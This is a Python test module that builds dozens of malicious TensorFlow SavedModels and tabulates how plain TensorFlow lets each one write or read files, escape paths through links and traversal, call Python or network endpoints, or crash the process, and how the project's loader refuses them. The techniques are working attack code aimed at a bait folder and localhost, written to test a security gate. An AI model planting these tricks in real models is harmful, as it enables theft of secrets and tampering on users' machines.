"""A table of SavedModels that do harm, and the command that prints it with what the gate answers.

    python tests/malicious.py > docs/malicious.md

Each row makes a model in a folder; `harm` is what plain TensorFlow lets it do, which `test_gate.py` sees done once and then
prevented. A model gets a `Bait`: a secret to read, an empty folder to write into, a port to connect to.
"""

import dataclasses
import json
import os
import re
import shutil
import tempfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import tensorflow as tf
from tensorflow.core.protobuf import saved_model_pb2
from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

import zoo
from zoo.saving import graph_check, manifest, store

SHIPPED = Path(__file__).parents[1] / "saved_models"
SPEC = tf.TensorSpec([None], tf.float32, name="x")


@dataclasses.dataclass(frozen=True)
class Bait:
    """What a model may reach for.

    Attributes:
        folder: Holds all of it, and nothing of the model.
        port: Somebody listens here.
    """

    folder: Path
    port: int = 0

    secret = property(lambda self: self.folder / "secret.txt")
    records = property(lambda self: self.folder / "secret.tfrecord")
    checkpoint = property(lambda self: self.folder / "secret.ckpt")
    target = property(lambda self: self.folder / "target")
    file = property(lambda self: str(self.target / "written"))

    def lay(self):
        """Makes the files."""
        self.target.mkdir(parents=True)
        self.secret.write_text("password\nof\nmine\n")
        with tf.io.TFRecordWriter(str(self.records)) as writer:
            writer.write(b"password")
        tf.raw_ops.SaveV2(prefix=str(self.checkpoint), tensor_names=["w"], shape_and_slices=[""], tensors=[tf.ones(3)])  # fmt: skip
        return self


@dataclasses.dataclass(frozen=True)
class Attack:
    """A row of the table.

    Attributes:
        kind: What sort of attack.
        what: What the model does, in words.
        make: Function of an empty folder and the bait that makes the model.
        words: What the refusal says, a regular expression.
        harm: What plain TensorFlow lets it do: written, read, answered, connected, called, died, hung, exhausted, loaded.
        own: Whether it pretends to be a model of this project.
    """

    kind: str
    what: str
    make: Callable
    words: str
    harm: str
    own: bool = False


def made(attack, bait, folder):
    """Makes a model in `folder`, and forgets what making it did."""
    folder.mkdir()
    attack.make(folder, bait)
    for path in bait.target.iterdir():
        path.unlink()


def save(folder, call, *, others=(), hidden=None, resource=None, **options):
    """Saves a model whose `serving_default` is `call`."""
    module = tf.Module()
    module.weight = tf.Variable(2.0)
    module.resource = resource
    functions = {"serving_default": call, **dict(others)}
    module.functions = {
        name: tf.function(function, input_signature=[SPEC]) for name, function in functions.items()
    }
    if hidden is not None:
        module.hidden = tf.function(hidden, input_signature=[SPEC])
    tf.saved_model.save(module, str(folder), signatures=module.functions, options=tf.saved_model.SaveOptions(**options))  # fmt: skip


def harmless(x):
    return {"y": 2 * x}


def calls(action, **options):
    """A model that does something when it is called."""

    def make(folder, bait):
        def call(x):
            with tf.control_dependencies([action(bait)]):
                return {"y": 2 * x}

        save(folder, call, **options)

    return make


def answers(action):
    """A model that answers with something that it reads."""

    def make(folder, bait):
        save(folder, lambda x: {"y": 2 * x, "stolen": action(bait)})

    return make


def elsewhere(place, action):
    """A model that does something in another function than `serving_default`."""

    def make(folder, bait):
        def call(x):
            with tf.control_dependencies([action(bait)]):
                return {"y": 2 * x}

        save(folder, harmless, **{place: call if place == "hidden" else {"embed": call}})

    return make


def within(wrap, action):
    """A model that does something inside of a function that another operation calls."""

    def make(folder, bait):
        def act(x):
            with tf.control_dependencies([action(bait)]):
                return tf.identity(x)

        save(folder, lambda x: {"y": wrap(act, x)})

    return make


def nested(act, x, depth=3):
    inner = act if depth == 0 else lambda z: nested(act, z, depth - 1)
    return tf.function(inner)(x)


def in_gradient(action):
    def make(folder, bait):
        @tf.custom_gradient
        def double(x):
            def grad(dy):
                with tf.control_dependencies([action(bait)]):
                    return 2 * dy

            return 2 * x, grad

        save(folder, lambda x: {"y": double(x)}, experimental_custom_gradients=True)

    return make


class Resource(tf.saved_model.experimental.TrackableResource):
    """A table whose life runs functions of the model's."""

    def __init__(self, **actions):
        super().__init__()
        self._actions = actions

    def _act(self, moment):
        if moment not in self._actions:
            return
        done = self._actions[moment]()
        if getattr(done, "dtype", None) == tf.string:  # so that nobody optimizes it away
            tf.raw_ops.Assert(condition=tf.strings.length(done) >= 0, data=["x"])
        elif isinstance(done, tf.Operation):
            with tf.control_dependencies([done]):
                tf.raw_ops.Assert(condition=tf.identity(True), data=["x"])

    def _create_resource(self):
        self._act("create")
        return tf.raw_ops.HashTableV2(key_dtype=tf.int64, value_dtype=tf.int64, shared_name="t")

    def _initialize(self):
        self._act("initialize")

    def _destroy_resource(self):
        self._act("destroy")


def with_resource(moment, action, wrap=None):
    """A model with a resource that does something while it is loaded or forgotten."""

    def make(folder, bait):
        act = (lambda: action(bait)) if wrap is None else (lambda: wrap(action, bait))
        resource = Resource(**{moment: act})
        table = resource.resource_handle
        save(folder, lambda x: {"y": 2 * x + 0 * tf.cast(tf.raw_ops.LookupTableSizeV2(table_handle=table), tf.float32)}, resource=resource)  # fmt: skip

    return make


def with_table(folder, bait):
    """A model with a table whose entries are brought back by a function of the model's."""
    table = tf.lookup.experimental.MutableHashTable(tf.int64, tf.int64, -1)
    table.insert([1], [2])
    save(folder, lambda x: {"y": x * tf.cast(table.size(), tf.float32)}, resource=table)


# What they do: each is an operation, for a graph that is being traced.


def write(bait):
    return tf.io.write_file(bait.file, "x")


def read(bait):
    return tf.io.read_file(str(bait.secret))


def save_v2(bait):
    return tf.raw_ops.SaveV2(prefix=bait.file, tensor_names=["a"], shape_and_slices=[""], tensors=[tf.ones(3)])  # fmt: skip


def print_to_file(bait):
    return tf.raw_ops.PrintV2(input="x", output_stream=f"file://{bait.file}")


def write_summary(bait):
    writer = tf.raw_ops.SummaryWriter()
    return tf.raw_ops.CreateSummaryFileWriter(writer=writer, logdir=str(bait.target), max_queue=1, flush_millis=1, filename_suffix="x")  # fmt: skip


def debug_identity(url):
    def act(bait):
        address = url.format(target=bait.target, port=bait.port)
        return tf.raw_ops.DebugIdentityV3(input=tf.ones(3), device_name="CPU:0", tensor_name="a", debug_urls=[address], io_index=0, io_of_node="")  # fmt: skip

    return act


def reduced(dataset):
    return dataset.reduce(tf.constant(0, tf.int64), lambda count, _: count + 1)


def numbers():
    return tf.data.Dataset.range(3)


def map_writes(bait):
    def act(i):
        with tf.control_dependencies([write(bait)]):
            return tf.identity(i)

    return reduced(numbers().map(act))


def map_python(bait):
    return reduced(numbers().map(lambda i: python("PyFunc", i)(bait)))


def python(name, value=None):
    """Calls a Python function that the process itself registered, by its name, which is easily guessed."""

    def act(bait):
        inputs = [tf.constant(0, tf.int64) if value is None else value]
        token = "pyfunc_0" if name == "EagerPyFunc" else "pyfunc_1"
        (answer,) = getattr(tf.raw_ops, name)(input=inputs, token=token, Tout=[tf.int64])
        answer.set_shape([])
        return answer

    return act


def merge_checkpoints(bait):
    return tf.raw_ops.MergeV2Checkpoints(checkpoint_prefixes=[str(bait.checkpoint)], destination_prefix=bait.file, delete_old_dirs=True)  # fmt: skip


def table_from(path):
    table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, shared_name="words")
    return tf.raw_ops.InitializeTableFromTextFileV2(table_handle=table, filename=path, key_index=-2, value_index=-1)  # fmt: skip


def restore(bait):
    return tf.raw_ops.RestoreV2(prefix=str(bait.checkpoint), tensor_names=["w"], shape_and_slices=[""], dtypes=[tf.float32])[0]  # fmt: skip


def read_lines(bait):
    return reduced(tf.data.TextLineDataset(str(bait.secret)))


def read_records(bait):
    return reduced(tf.data.TFRecordDataset(str(bait.records)))


def read_blocks(bait):
    return reduced(tf.data.FixedLengthRecordDataset(str(bait.secret), 17))


def list_files(bait):
    return tf.io.matching_files(f"{bait.folder}/*")


def map_file(bait):
    return tf.raw_ops.ImmutableConst(dtype=tf.uint8, shape=[4], memory_region_name=str(bait.secret))


def describe(bait):
    return tf.raw_ops.DecodeProtoV2(bytes=[b""], message_type="m", field_names=["f"], output_types=[tf.int32], descriptor_source=f"file://{bait.secret}").sizes  # fmt: skip


def remap(bait):
    return tf.raw_ops.GenerateVocabRemapping(new_vocab_file=str(bait.secret), old_vocab_file=str(bait.secret), new_vocab_offset=0, num_new_vocab=2).remapping  # fmt: skip


def sample_words(bait):
    return tf.raw_ops.FixedUnigramCandidateSampler(true_classes=[[1]], num_true=1, num_sampled=1, unique=True, range_max=3, vocab_file=str(bait.secret)).sampled_candidates  # fmt: skip


def whole_file(bait):
    reader = tf.raw_ops.WholeFileReaderV2()
    queue = tf.raw_ops.FIFOQueueV2(component_types=[tf.string])
    with tf.control_dependencies([tf.raw_ops.QueueEnqueueV2(handle=queue, components=[str(bait.secret)])]):  # fmt: skip
        return tf.raw_ops.ReaderReadV2(reader_handle=reader, queue_handle=queue).value


def call_far_away(bait):
    address = f"127.0.0.1:{bait.port}"
    return gen_rpc_ops.rpc_client(address, 2000, list_registered_methods=True)[1]


def data_service(bait):
    dataset = tf.data.experimental.service.from_dataset_id("parallel_epochs", f"grpc://127.0.0.1:{bait.port}", tf.constant("1"), tf.TensorSpec([], tf.int64))  # fmt: skip
    return reduced(dataset)


def abort(bait):
    return tf.raw_ops.Abort(error_msg="x")


# Changes to what was saved.


def edited(change, base=None):
    """A model whose graph was changed after it was saved."""

    def make(folder, bait):
        (base or (lambda f, _: save(f, harmless)))(folder, bait)
        path = folder / "saved_model.pb"
        model = saved_model_pb2.SavedModel.FromString(path.read_bytes())
        change(model, bait)
        path.write_bytes(model.SerializeToString(deterministic=True))

    return make


def _writer(folder):
    """The nodes of a graph that writes: of a model of TensorFlow 1, whose `main_op` runs while it is loaded."""
    with tf.Graph().as_default() as graph:
        write(Bait(folder))
        return graph.as_graph_def(), graph.get_operations()[-1].name


def main_op(model, bait):
    graph, name = _writer(bait.folder)
    meta = model.meta_graphs[0]
    for node in graph.node:
        added = meta.graph_def.node.add()
        added.CopyFrom(node)
        added.name = f"evil/{node.name}"
        added.input[:] = [f"evil/{source}" for source in node.input]
    meta.collection_def["saved_model_main_op"].node_list.value[:] = [f"evil/{name}"]
    meta.signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"].name = f"evil/{name}"  # fmt: skip


def restorer_writes(model, bait):
    for name, function in functions_of(model).items():
        if "restore" in name and "traced" not in name:
            for part, text in {"name": bait.file, "contents": "x"}.items():
                node = function.node_def.add()
                node.name, node.op = part, "Const"
                set_text(node, text)
            writer = function.node_def.add()
            writer.name, writer.op = "evil", "WriteFile"
            writer.input[:] = ["name:output:0", "contents:output:0"]
            function.control_ret["evil"] = "evil"
            function.signature.control_output.append("evil")
            function.signature.is_stateful = True


def set_text(node, text):
    node.attr["dtype"].type = node.attr["value"].tensor.dtype = 7
    node.attr["value"].tensor.tensor_shape.SetInParent()
    node.attr["value"].tensor.string_val[:] = [str(text).encode()]


def without_objects(model, bait):
    main_op(model, bait)
    model.meta_graphs[0].ClearField("object_graph_def")
    model.meta_graphs[0].ClearField("saver_def")


def two_graphs(model, bait):
    without_objects(model, bait)
    second = model.meta_graphs.add()
    second.CopyFrom(model.meta_graphs[0])
    second.meta_info_def.tags[:] = ["other"]


def functions_of(model):
    return {
        f.signature.name: f for f in graph_check.library_of(model.meta_graphs[0].graph_def).function
    }


def process_gradient(model, bait):
    for function in functions_of(model).values():
        for node in function.node_def:
            if node.op == "Mul":
                node.attr["_gradient_op_type"].s = b"Evil"


def process_class(model, bait):
    objects = model.meta_graphs[0].object_graph_def.nodes
    next(node for node in objects if node.HasField("variable")).registered_name = "Custom.Evil"


def with_asset_elsewhere(folder, bait):
    with_vocabulary(folder, bait)
    next((folder / "assets").iterdir()).unlink()


def asset_outside(model, bait):
    relative = os.path.relpath(bait.secret, "/")
    model.meta_graphs[0].asset_file_def[0].filename = "../" * 30 + relative


def huge_constant(model, bait):
    for node in model.meta_graphs[0].graph_def.node:
        if node.op == "Const" and node.attr["value"].tensor.dtype == 1:
            tensor = node.attr["value"].tensor
            tensor.Clear()
            tensor.dtype, tensor.float_val[:] = 1, [1.0]
            tensor.tensor_shape.dim.add().size = 2**44


def handle_constant(model, bait):
    for function in functions_of(model).values():
        for node in function.node_def:
            if node.op == "Const":
                tensor = node.attr["value"].tensor
                tensor.Clear()
                tensor.dtype, node.attr["dtype"].type = 20, 20
                handle = tensor.resource_handle_val.add()
                handle.name, handle.device = "mine", "/job:localhost/replica:0/task:0/device:CPU:0"


def restores_elsewhere(model, bait):
    """`serving_default` calls the function that restores variables, from a checkpoint of the model's choice."""
    restorer = next(name for name in functions_of(model) if "traced_restore" in name)
    for name, function in functions_of(model).items():
        if "signature_wrapper" not in name:
            continue
        prefix, variable, call = (function.node_def.add() for _ in range(3))
        prefix.name, prefix.op = "prefix", "Const"
        set_text(prefix, bait.checkpoint)
        variable.name, variable.op = "variable", "VarHandleOp"
        variable.attr["dtype"].type, variable.attr["shape"].shape.unknown_rank = 1, True
        call.name, call.op = "restore", "StatefulPartitionedCall"
        call.input[:] = ["prefix:output:0", "variable:resource:0"]
        call.attr["Tin"].list.type[:] = [7, 20]
        call.attr["Tout"].list.type[:] = [7]
        call.attr["f"].func.name = restorer
        function.control_ret["restore"] = "restore"
        function.signature.control_output.append("restore")
        function.signature.is_stateful = True
    for node in functions_of(model)[restorer].node_def:
        if node.name.endswith("tensor_names"):
            node.attr["value"].tensor.string_val[:] = [b"w"] * len(node.attr["value"].tensor.string_val)  # fmt: skip


def fixed_prefix(model, bait):
    """The function that restores variables reads from a place of its own."""
    restores_elsewhere(model, bait)
    for name, function in functions_of(model).items():
        if "signature_wrapper" in name:
            del function.node_def[-3:]
            function.control_ret.clear()
            del function.signature.control_output[:]
        if "traced_restore" in name:
            prefix = function.node_def.add()
            prefix.name, prefix.op = "elsewhere", "Const"
            set_text(prefix, bait.checkpoint)
            for node in function.node_def:
                if node.op == "RestoreV2":
                    node.input[0] = "elsewhere:output:0"


# Changes to the files.


def filed(change, base=None):
    def make(folder, bait):
        (base or (lambda f, _: save(f, harmless)))(folder, bait)
        change(folder, bait)

    return make


def replace(name, how):
    """Puts a link to the bait's copy of a file in its place, so that the model still loads."""

    def change(folder, bait):
        shutil.copy(folder / name, bait.secret)
        (folder / name).unlink()
        how(bait.secret, folder / name)

    return change


def link_folder(folder, bait):
    inside = bait.folder / "variables"
    shutil.move(folder / "variables", inside)
    (folder / "variables").symlink_to(inside)
    data = next(inside.glob("variables.data*"))
    shutil.copy(data, bait.secret)
    data.unlink()
    os.link(bait.secret, data)


def link_asset(folder, bait):
    asset = next((folder / "assets").iterdir())
    asset.unlink()
    asset.symlink_to(bait.secret)


def as_text(folder, bait):
    from google.protobuf import text_format

    path = folder / "saved_model.pb"
    model = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    (folder / "saved_model.pbtxt").write_text(text_format.MessageToString(model))
    path.unlink()


def pipe(folder, bait):
    data = next((folder / "variables").glob("variables.data*"))
    data.unlink()
    os.mkfifo(data)


def grow(folder, bait):
    with open(folder / "saved_model.pb", "ab") as file:
        for _ in range(70):  # of a field that no SavedModel has
            file.write(b"\xfa\x3f\x80\x80\x40" + bytes(2**20))


def with_vocabulary(folder, bait):
    words = folder.parent / "words.txt"
    words.write_text("a\nb\nc\n")
    initializer = tf.lookup.TextFileInitializer(str(words), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER)  # fmt: skip
    table = tf.lookup.StaticHashTable(initializer, -1)
    save(folder, lambda x: {"y": x + tf.cast(table.lookup(tf.constant("b")), tf.float32)}, resource=table)  # fmt: skip
    words.unlink()


def tampered(change, renew=False):
    """A model of this project, changed; perhaps with a manifest that agrees."""

    def make(folder, bait):
        shutil.copytree(store.find(SHIPPED / "wine_dense"), folder, dirs_exist_ok=True)
        change(folder, bait)
        if renew:
            manifest.write(folder)

    return make


def change_card(**entries):
    def change(folder, bait):
        path = folder / "assets.extra" / "card.json"
        card = json.loads(path.read_text())
        path.write_text(json.dumps({**card, **entries}, indent=1) + "\n")

    return change


def builder_runs_code(folder, bait):
    card = json.loads((folder / "assets.extra" / "card.json").read_text())
    evil = {"module": "builtins", "class_name": "function", "config": "open", "registered_name": "function"}  # fmt: skip
    arguments = {**card["builder"]["arguments"], "activation": evil}
    change_card(builder={**card["builder"], "arguments": arguments})(folder, bait)


def other_weights(folder, bait):
    other = tf.saved_model.load(str(folder))
    for variable in other.variables:
        variable.assign(np.ones(variable.shape))
    with tempfile.TemporaryDirectory() as scratch:
        tf.saved_model.save(other, scratch)
        shutil.rmtree(folder / "variables")
        shutil.copytree(Path(scratch) / "variables", folder / "variables")


def other_graph(folder, bait):
    shutil.copy(store.find(SHIPPED / "digits_dense") / "saved_model.pb", folder / "fingerprint.pb")


def manifest_outside(folder, bait):
    path = folder / manifest.PATH
    entries = json.loads(path.read_text())["files"]
    inside = entries.pop("fingerprint.pb")
    (folder / "fingerprint.pb").unlink()
    entries["../" * 20 + os.path.relpath(bait.secret, "/")] = inside
    path.write_text(manifest._render(entries))


def many_files(folder, bait):
    for i in range(200):
        (folder / "assets" / str(i)).write_text("x")


def add(name, content="import os\n"):
    return lambda folder, bait: (folder / name).write_text(content)


DATASETS = r"\w*Dataset\w*"  # any of them: a library's functions come in any order
LISTED = r"'({})', which is not on the list"


def op(name):
    return LISTED.format(name)


ATTACKS = [
    Attack("writing at load", "an initializer writes a file", with_resource("initialize", write), op("WriteFile"), "written"),
    Attack("writing at load", "an initializer writes, three functions deep", with_resource("initialize", write, lambda act, bait: nested(lambda x: [act(bait), x][1], tf.constant(1.0))), op("WriteFile"), "written"),
    Attack("writing at load", "what makes a resource writes a file", with_resource("create", write), op("WriteFile"), "written"),
    Attack("writing at load", "an initializer prints into a file", with_resource("initialize", print_to_file), op("PrintV2"), "written"),
    Attack("writing at load", "an initializer writes a checkpoint", with_resource("initialize", save_v2), op("SaveV2"), "written"),
    Attack("writing at load", "what restores a table's entries writes a file", edited(restorer_writes, with_table), op("WriteFile"), "written"),
    Attack("writing at load", "the main operation of a graph without objects writes a file", edited(without_objects), "no object graph", "written"),
    Attack("writing at load", "the main operation of one of two graphs writes a file", edited(two_graphs), "holds 2 graphs", "written"),
    Attack("writing at load", "the main operation of a text protobuf writes a file", filed(as_text, edited(without_objects)), "text and chunked forms are not read", "written"),
    Attack("writing at call", "serving_default writes a file", calls(write), op("WriteFile"), "written"),
    Attack("writing at call", "serving_default writes a checkpoint", calls(save_v2), op("SaveV2"), "written"),
    Attack("writing at call", "serving_default prints into a file", calls(print_to_file), op("PrintV2"), "written"),
    Attack("writing at call", "serving_default writes events for TensorBoard", calls(write_summary), op("(Create)?Summary(File)?Writer"), "written"),
    Attack("writing at call", "serving_default dumps a tensor for a debugger", calls(debug_identity("file://{target}")), op("DebugIdentityV3"), "written"),
    Attack("writing at call", "serving_default removes another's checkpoint", calls(merge_checkpoints), op("MergeV2Checkpoints"), "written"),
    Attack("writing at call", "a data set writes a cache", calls(lambda bait: reduced(numbers().cache(bait.file))), op(DATASETS), "written"),
    Attack("writing at call", "a data set writes a snapshot", calls(lambda bait: reduced(numbers().snapshot(bait.file))), op(DATASETS), "written"),
    Attack("hidden writing", "in a signature that is not the default", elsewhere("others", write), op("WriteFile"), "written"),
    Attack("hidden writing", "in a function without a signature", elsewhere("hidden", write), op("WriteFile"), "written"),
    Attack("hidden writing", "three functions deep", within(nested, write), op("WriteFile"), "written"),
    Attack("hidden writing", "in the body of a loop", within(lambda act, x: tf.while_loop(lambda i, _: i < 1, lambda i, z: (i + 1, act(z)), (0, x))[1], write), op("WriteFile"), "written"),
    Attack("hidden writing", "in a branch", within(lambda act, x: tf.cond(tf.size(x) < 9, lambda: act(x), lambda: x), write), op("WriteFile"), "written"),
    Attack("hidden writing", "in a branch of several", within(lambda act, x: tf.switch_case(tf.constant(1), [lambda: x, lambda: act(x)]), write), op("WriteFile"), "written"),
    Attack("hidden writing", "in a function mapped over a data set", calls(map_writes), op(f"{DATASETS}|WriteFile"), "written"),
    Attack("hidden writing", "in a gradient", in_gradient(write), op("WriteFile"), "written"),
    Attack("at destruction", "a destroyer writes a file", with_resource("destroy", write), op("WriteFile"), "written"),
    Attack("at destruction", "a destroyer reads a file", with_resource("destroy", read), op("ReadFile"), "read"),
    Attack("reading at load", "an initializer reads a file", with_resource("initialize", read), op("ReadFile"), "read"),
    Attack("reading at load", "an initializer fills a table from a file", with_resource("initialize", lambda bait: table_from(str(bait.secret))), op("InitializeTableFromTextFileV2"), "read"),
    Attack("asset paths", "an asset path leads out of the folder", edited(asset_outside, with_asset_elsewhere), "secret.txt' as an asset", "read"),
    Attack("asset paths", "an asset is a link out of the folder", filed(link_asset, with_vocabulary), "is a symbolic link", "read"),
    Attack("reading at call", "serving_default answers with a file", answers(read), op("ReadFile"), "read"),
    Attack("reading at call", "serving_default lists a folder", answers(list_files), op("MatchingFiles"), "answered"),
    Attack("reading at call", "serving_default reads a checkpoint", answers(restore), op("RestoreV2"), "read"),
    Attack("reading at call", "serving_default reads lines", answers(read_lines), op(DATASETS), "read"),
    Attack("reading at call", "serving_default reads records", answers(read_records), op(DATASETS), "read"),
    Attack("reading at call", "serving_default reads blocks", answers(read_blocks), op(DATASETS), "read"),
    Attack("reading at call", "serving_default maps a file as a constant", answers(map_file), op("ImmutableConst"), "read"),
    Attack("reading at call", "serving_default reads a description of a protobuf", answers(describe), op("DecodeProtoV2"), "read"),
    Attack("reading at call", "serving_default compares two vocabularies", answers(remap), op("GenerateVocabRemapping"), "read"),
    Attack("reading at call", "serving_default samples words by a file", answers(sample_words), op("FixedUnigramCandidateSampler"), "read"),
    Attack("reading at call", "serving_default reads through a queue", answers(whole_file), op("WholeFileReaderV2|FIFOQueueV2"), "read"),
    Attack("path escape", "serving_default calls what restores variables", edited(restores_elsewhere), "calls __inference__traced_restore", "read"),
    Attack("links", "the variables are a symbolic link", filed(replace("variables/variables.data-00000-of-00001", lambda a, b: b.symlink_to(a))), "is a symbolic link", "read"),
    Attack("links", "the variables are a hard link", filed(replace("variables/variables.data-00000-of-00001", os.link)), "is a hard link", "read"),
    Attack("links", "the graph is a symbolic link", filed(replace("saved_model.pb", lambda a, b: b.symlink_to(a))), "is a symbolic link", "read"),
    Attack("links", "the graph is a hard link", filed(replace("saved_model.pb", os.link)), "is a hard link", "read"),
    Attack("links", "the folder of variables is a link", filed(link_folder), "variables is a symbolic link", "read"),
    Attack("links", "the variables are a pipe that nobody writes to", filed(pipe), "is no plain file", "hung"),
    Attack("Python", "a function of the process, by its number", calls(python("EagerPyFunc")), op("EagerPyFunc"), "called"),
    Attack("Python", "the same, in graphs", calls(python("PyFunc")), op("PyFunc"), "called"),
    Attack("Python", "the same, said to have no state", answers(python("PyFuncStateless")), op("PyFuncStateless"), "called"),
    Attack("Python", "the same, mapped over a data set", calls(map_python), op(f"{DATASETS}|PyFunc"), "called"),
    Attack("Python", "a gradient that the process registered", edited(process_gradient), "gradient of 'Evil'", "called"),
    Attack("Python", "a class that the process registered", edited(process_class), "class 'Custom.Evil'", "called"),
    Attack("network", "serving_default calls another machine", calls(call_far_away), op("RpcClient"), "connected"),
    Attack("network", "serving_default reports to a debugger", calls(debug_identity("grpc://127.0.0.1:{port}")), op("DebugIdentityV3"), "connected"),
    Attack("network", "serving_default asks a data service", calls(data_service), op(f"{DATASETS}|DummyIterationCounter|UncompressElement"), "connected"),
    Attack("the process", "serving_default ends the process", calls(abort), op("Abort"), "died"),
    Attack("the process", "a constant of 2^44 elements", edited(huge_constant, lambda f, _: _with_constant(f)), "is a constant of more than", "exhausted"),
    Attack("tampered", "the card says another score", tampered(change_card(runs=[{"scores": {"accuracy": 1.0}}])), "card.json has changed", "loaded", own=True),
    Attack("tampered", "the card makes its builder run code; the manifest agrees", tampered(builder_runs_code, renew=True), "no usable entry 'builder'", "loaded", own=True),
    Attack("tampered", "the card is no object; the manifest agrees", tampered(add("assets.extra/card.json", "[]"), renew=True), "no usable entry", "loaded", own=True),
    Attack("tampered", "other weights", tampered(other_weights), "variables.* has changed", "loaded", own=True),
    Attack("tampered", "another file in place of the fingerprint", tampered(other_graph), "fingerprint.pb has changed", "loaded", own=True),
    Attack("tampered", "a manifest that lists a file elsewhere", tampered(manifest_outside), "does not belong there|is missing", "loaded", own=True),
    Attack("tampered", "no manifest", tampered(lambda folder, _: (folder / manifest.PATH).unlink()), "has no assets.extra/manifest.json", "loaded", own=True),
    Attack("other files", "a Python file beside the graph", filed(add("model.py")), "model.py does not belong there", "loaded"),
    Attack("other files", "debug information", filed(lambda folder, bait: [(folder / "debug").mkdir(), (folder / "debug/saved_model_debug_info.pb").write_bytes(b"")]), "debug does not belong there", "loaded"),
    Attack("other files", "more files than a model has", filed(many_files), "is an asset|more than 100 files", "loaded"),
    Attack("other files", "a graph of 70 MiB", filed(grow), "larger than 64 MiB", "loaded"),
]  # fmt: skip


def _with_constant(folder):
    table = tf.constant([1.0, 2.0, 3.0])
    save(folder, lambda x: {"y": x + table[0]}, resource=_Holder(table))


class _Holder(tf.Module):
    def __init__(self, tensor):
        super().__init__()
        self.tensor = tensor


def refusal(attack, bait, folder):
    """What `zoo.load` answers to a model that was made in `folder`."""
    try:
        zoo.load(folder, foreign=not attack.own)
    except zoo.InputError as error:
        return str(error).replace(str(folder), "MODEL").replace(str(bait.folder), "BAIT")
    return None


def page():
    """The text of docs/malicious.md."""
    lines = [
        "# SavedModels that do harm, and the answer",
        "",
        f"Printed by `python tests/malicious.py`: {len(ATTACKS)} models. The third column is what happens where plain TensorFlow loads and",
        "calls them; the gate refuses each, and nothing happens. [Security](security.md) says what is checked.",
        "",
        "| kind | what it does | with plain TensorFlow | what `zoo.load` says |",
        "| --- | --- | --- | --- |",
    ]
    for attack in ATTACKS:
        with tempfile.TemporaryDirectory() as scratch:
            bait, folder = Bait(Path(scratch) / "bait", 1).lay(), Path(scratch) / "model"
            made(attack, bait, folder)
            said = refusal(attack, bait, folder).partition(". If you trust")[0]
        said = re.sub(r"_\d+(?=[', ])", "", said).replace("|", "\\|").splitlines()[0]
        lines.append(f"| {attack.kind} | {attack.what} | {attack.harm} | {said} |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    print(page(), end="")
